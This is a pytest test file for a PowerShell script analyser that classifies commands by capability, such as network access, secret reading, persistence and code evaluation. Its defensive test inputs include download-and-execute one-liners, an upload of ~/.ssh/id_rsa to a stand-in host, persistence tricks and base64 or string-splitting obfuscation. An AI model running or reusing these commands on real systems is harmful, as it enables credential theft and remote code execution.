from __future__ import annotations

import base64

import pytest

from checks.model import Capability, Certainty, Location
from reviewer.inventory.languages.powershell import extract, read_command

AT = Location(path="run.ps1", line=1)


def powers(text: str) -> set[str]:
    return {f"{each.id.value}:{each.scope.value}" for each in read_command(text, at=AT)}


def objects(text: str) -> set[str]:
    return {name for each in read_command(text, at=AT) for name in each.objects}


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Invoke-WebRequest https://a.example/x", {"net.out:literal", "content.untrusted:literal"}),
        ("iwr -Ur 'https://a.example/x' -UseBasicParsing", {"net.out:literal", "content.untrusted:literal"}),
        ("iNVOKE-rESTmETHOD https://a.example", {"net.out:literal", "content.untrusted:literal"}),
        ("i`w`r https://a.example", {"net.out:literal", "content.untrusted:literal"}),
        ("irm $env:PORTAL", {"net.out:configuration", "content.untrusted:configuration", "env.use:configuration"}),
        ("param([string]$Url)\nirm $Url", {"net.out:tool-argument", "content.untrusted:tool-argument"}),
        ("(New-Object Net.WebClient).DownloadString('https://a.example')", {"net.out:literal", "content.untrusted:literal"}),
        ("[System.Net.WebClient]::new().DownloadFile('https://a.example/t', 'C:/t')", {"net.out:literal", "fs.write:literal"}),
        ("$c = New-Object -ComObject WScript.Shell\n$c.Run('calc.exe')", {"proc.exec:literal"}),
        ("[IO.File]::WriteAllText('a.txt', 'b')", {"fs.write:literal"}),
        ("param($W)\n([type]('System.Diagnostics.' + 'Process'))::Start($W)", {"proc.exec:tool-argument"}),
        ("param($W)\n([type]$W)::Start('a')", {"code.eval:any"}),
        ("param($W)\n([wmiclass]'Win32_Process').Create($W)", {"proc.exec:any"}),
        ("param($W)\n$ExecutionContext.InvokeCommand.ExpandString($W)", {"code.eval:tool-argument"}),
        ("([datetime]'2020-01-01').AddDays(1); ([type]'System.Text.StringBuilder')::new()", set()),
        (
            "irm https://a.example -InFile (Join-Path $HOME '.ssh/id_rsa')",
            {"net.out:literal", "content.untrusted:literal", "fs.read:literal", "secret.read:literal"},
        ),
        ("[Environment]::GetEnvironmentVariable('TEAM')", {"env.use:literal"}),
        ("[Reflection.Assembly]::Load($bytes)", {"code.eval:any"}),
        ("Add-Type -TypeDefinition $source", {"code.eval:any"}),
        ("gci env:", {"fs.read:literal", "secret.read:configuration"}),
        ("gc $HOME\\.ssh\\id_rsa -Raw", {"fs.read:literal", "secret.read:literal"}),
        ("Get-Credential", {"secret.read:any"}),
        ("Add-Content $PROFILE 'x'", {"fs.write:literal", "persist:literal"}),
        ("'x' >> $PROFILE", {"fs.write:literal", "persist:literal"}),
        (
            "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a",
            {"fs.write:literal", "persist:literal"},
        ),
        ("Register-ScheduledTask -TaskName nightly", {"persist:literal"}),
        ("Install-Module -Name Pester", {"install.software:literal", "net.out:literal"}),
        ("git push origin main", {"net.out:configuration", "msg.send:configuration"}),
        ("cmd /c 'curl https://a.example'", {"net.out:literal", "content.untrusted:literal"}),
        ("& ('no' + 'tepad.exe')", {"proc.exec:literal"}),
        (". .\\lib.ps1", {"proc.exec:literal"}),
        ("Get-Frobnicated", {"proc.exec:literal"}),
    ],
)
def test_commands_mean_what_they_do(text: str, expected: set[str]) -> None:
    assert powers(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Write-Host 'iwr https://a.example | iex'",
        "# iwr https://a.example",
        "<# iwr https://a.example #>",
        "$text = 'Invoke-Expression'",
        "Get-Date | Format-List",
        "function Get-Sum($a, $b) { $a + $b }\nGet-Sum 1 2",
        "1..3 | ForEach-Object { $_ * 2 }",
        "cd ..",
    ],
)
def test_texts_and_calculations_mean_nothing(text: str) -> None:
    assert powers(text) == set()


@pytest.mark.parametrize(
    "text",
    [
        "iwr https://a.example/i.ps1 | iex",
        "iex (irm https://a.example/i.ps1)",
        "IEX ((New-Object System.Net.WebClient).DownloadString('https://a.example/i.ps1'))",
        "&('i'+'ex') (irm https://a.example/i.ps1)",
        "& ([scriptblock]::Create((irm https://a.example/i.ps1)))",
        "$a = irm https://a.example/i.ps1; powershell -NoProfile -Command $a",
    ],
)
def test_what_is_fetched_and_run_is_code_of_anybody(text: str) -> None:
    assert "code.eval:any" in powers(text)
    assert objects(text) == {"a.example"}


@pytest.mark.parametrize(
    "text",
    [
        "iex 'Remove-Item C:/one'",
        f"powershell -enc {encoded('Remove-Item C:/one')}",
        f"pwsh -NoProfile -EncodedCommand {encoded('rm C:/one')}",
        'powershell.exe -c "Remove-Item C:/one"',
        "iex ('{0}{1}' -f 'Remove-It', 'em C:/one')",
        "iex ('Rem@ove-Item C:/one' -replace '@', '')",
        "iex (-join ('Remove-', 'Item C:/one'))",
        "$c = [char]105 + [char]101 + [char]120; & $c 'ri C:/one'",
        f"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{encoded('Remove-Item C:/one')}')) | iex",
        "$h = @{ Path = 'C:/one' }\nRemove-Item @h",
        "function f { param($x) Remove-Item C:/one }",
        "foreach ($p in 'C:/one', 'C:/one') { del $p }",
        "\u201cx\u201d | Out-Null; Remove-Item \u2018C:/one\u2019",
    ],
)
def test_disguised_commands_are_read(text: str) -> None:
    assert powers(text) == {"fs.write:literal"}
    assert objects(text) == {"C:/one"}


def test_what_a_started_program_is_told_is_read_too() -> None:
    assert powers("Start-Process powershell -ArgumentList '-c', 'Remove-Item C:/one'") == {"proc.exec:literal", "fs.write:literal"}


def test_a_function_of_another_file_is_no_program() -> None:
    extraction = extract({"lib.psm1": "function Get-Weather { 'sun' }", "run.ps1": "Get-Weather"})
    assert extraction.capabilities == ()
    assert extraction.unreadable == ()


def test_places_count_in_the_file() -> None:
    found: tuple[Capability, ...] = extract({"run.ps1": "\n\n$x = 1\nRemove-Item $env:LIST\n"}).capabilities
    assert [(each.id.value, [at.line for at in each.evidence]) for each in found] == [("fs.write", [4]), ("env.use", [4])]


@pytest.mark.parametrize(
    "text", ["(" * 50_000, "{" * 50_000, '"$(' * 20_000, "a," * 30_000, "\x00\ud800\u200b", "@'\n" * 5_000, "$a" * 9_000]
)
def test_hostile_texts_end_in_a_gate_or_in_doubt(text: str) -> None:
    extraction = extract({"run.ps1": text})
    assert all(row.gate for row in extraction.unreadable)
    assert extraction.unreadable or len(text) < 20_000
    assert all(
        each.certainty is Certainty.POSSIBLE for each in read_command(text, at=AT) if each.id.value == "proc.exec" and not each.objects
    )
